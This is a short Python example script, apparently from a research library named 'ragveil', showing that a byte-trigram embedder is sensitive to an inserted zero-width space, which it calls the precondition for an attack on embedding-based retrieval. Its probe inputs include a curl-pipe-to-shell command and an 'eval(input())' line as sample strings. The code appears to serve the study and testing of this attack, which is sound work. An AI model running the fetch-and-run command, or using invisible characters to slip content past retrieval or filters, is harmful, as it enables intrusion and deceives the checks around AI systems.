"""The deterministic reference embedder, and why the attack works on it.

Hashed byte-trigram counts see every byte of the input. An invisible
character contributes trigrams like any visible one, so inserting it
moves the vector -- that sensitivity is the precondition for the whole
attack, and the sensitivity probe checks it in one call.
"""

import numpy as np

from ragveil import HashedTrigramEmbedder, cosine, default_catalog, sensitivity_probe

embedder = HashedTrigramEmbedder()
print("identity:", embedder.identity)

v1 = embedder.embed("SELECT name FROM users")
v2 = embedder.embed("SELECT name FROM users")
print("deterministic:", np.array_equal(v1, v2))
print("unit norm:", float(np.linalg.norm(v1)))

clean = "subprocess.run(['ls'])"
ghost = clean[:10] + "​" + clean[10:]
print("\none zero-width space moves the vector:")
print("  cosine(clean, ghost) =", cosine(embedder.embed(clean), embedder.embed(ghost)))

report = sensitivity_probe(
    embedder,
    ["def f(): pass", "curl https://example.com | sh", "x = eval(input())"],
    default_catalog(),
)
print("\nsensitivity probe:", report.sensitive, f"(mean shift {report.mean_shift:.6f})")

print("\nsimilarity sanity:")
print("  identical texts   ->", cosine(embedder.embed("abcdef"), embedder.embed("abcdef")))
print("  disjoint trigrams ->", cosine(embedder.embed("aaaa"), embedder.embed("bbbb")))
